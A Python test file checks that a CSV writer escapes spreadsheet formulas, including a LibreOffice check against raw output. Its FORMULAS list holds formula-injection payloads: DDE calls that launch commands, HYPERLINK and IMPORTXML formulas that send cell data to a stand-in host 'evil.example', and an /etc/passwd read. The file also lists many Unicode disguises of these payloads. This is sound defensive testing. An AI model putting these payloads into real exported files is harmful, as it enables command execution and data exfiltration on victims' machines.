"""Formulas in CSV files, which a spreadsheet would run."""

from __future__ import annotations

import shutil
import subprocess
import unicodedata
from typing import TYPE_CHECKING

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from batchfish.core.rules import OutputRules
from batchfish.table.columns import plan_columns
from batchfish.table.write import escape_formulas, escape_names, write_table
from tests.outcomes import Outcome, in_columns

if TYPE_CHECKING:
    from pathlib import Path

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
    "=WEBSERVICE(A1)",
    "=DDE(1;2;3)",
    "='file:///etc/passwd'#$passwd.A1",
    "+1+cmd|' /C calc'!A0",
    "+A1",
    "+44 20 7946 0000",
    "-1+1",
    "-A1",
    "-2+3+cmd|' /C calc'!A0",
    "--5",
    "-",
    "-5 kg",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1+A1",
    "\u00a0=1+1",
    "\u2003=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u2066=1+1",
    "\u00ad=1+1",
    "\x0b=1+1",
    "\x7f=1+1",
    "\uff1d1+1",
    "\uff0b1+A1",
    "\uff0d1+A1",
    "\uff20SUM(1)",
    " \uff1d1+1",
    "\ufe661+1",
    "\ufe621+A1",
    "\ufe631+A1",
    "\ufe6bSUM(1)",
    "=1+1\n=2+2",
    "-5\n=1+1",
    "-5,=1+1",
    "+٣",
]
PLAIN = [
    "",
    "Walden",
    "a=b",
    "1+1",
    "'=1+1",
    "a\n=1+1",
    "é",
    '"=1+1"',
    "{=1+1}",
    "−5",
    "·=1",
    '{"a":"=1+1"}',
    "-5",
    "+5",
    "-5.25",
    "+1e-7",
    "-1E+10",
    "5",
]


def safe(text: str) -> str:
    return str(escape_formulas(pl.DataFrame({"x": [text]}))["x"].item())


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_escaped(text: str) -> None:
    assert safe(text) == "'" + text.replace("\0", "␀")
    assert escape_names([text]) == [safe(text)]


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_and_numbers_are_not_changed(text: str) -> None:
    assert safe(text) == text


@given(
    st.text(alphabet=st.sampled_from("=+-@\uff1d\uff0b\uff0d\uff20 \t\r\n\u00a0\u200b\ufeff0159.eEa'\",;"))
    | st.text()
)
def test_no_formula_is_left(text: str) -> None:
    """Judged by rules written anew: what follows the unseen decides."""
    made = safe(text)
    seen = made
    while seen and unicodedata.category(seen[0])[0] in "ZC" and seen[0] not in "\t\r":
        seen = seen[1:]
    number = made.lstrip("+-").replace("e-", "e").replace("E-", "E").replace("e+", "e").replace("E+", "E")
    is_number = number.isascii() and number.replace(".", "").replace("e", "").replace("E", "").isdigit()
    assert seen[:1] not in set("=+-@\t\r\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b") or is_number
    assert made.removeprefix("'").replace("␀", "") == text.removeprefix("'").replace("\0", "").replace(
        "␀", ""
    )


def test_a_nul_is_replaced_by_a_visible_sign() -> None:
    assert safe("a\0b") == "a␀b"


def test_typed_columns_and_nulls_are_not_changed() -> None:
    frame = pl.DataFrame({"n": [-5, None], "f": [-0.5, 1e-7], "b": [True, None], "s": [None, "=1"]})
    assert escape_formulas(frame).rows() == [(-5, -0.5, True, None), (None, 1e-7, None, "'=1")]


@pytest.mark.slow
@pytest.mark.process
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_finds_formulas_only_in_the_raw_file(tmp_path: Path) -> None:
    """It is told to run formulas where it finds them; the raw file shows that it would."""
    rows = [
        Outcome(item_id=f"b{number}", batch="b", row=number, url=text, status="failed", inputs={"=in": text})
        for number, text in enumerate(FORMULAS)
    ]
    plan = plan_columns([], ["=in"], OutputRules())
    found = {}
    for name in ("safe", "raw"):
        write_table(tmp_path / f"{name}.csv", plan, lambda: iter([in_columns(rows)]), raw_csv=name == "raw")
        subprocess.run(
            [
                "soffice",
                f"-env:UserInstallation=file://{tmp_path}/profile",
                "--headless",
                "--convert-to",
                "fods",
                "--infilter=CSV:44,34,76,1,,0,false,true,false,false,true,-1",
                "--outdir",
                str(tmp_path),
                str(tmp_path / f"{name}.csv"),
            ],
            check=True,
            capture_output=True,
            timeout=120,
        )
        found[name] = (tmp_path / f"{name}.fods").read_text(encoding="utf-8").count("table:formula=")
    assert found["raw"] > 10
    assert found["safe"] == 0
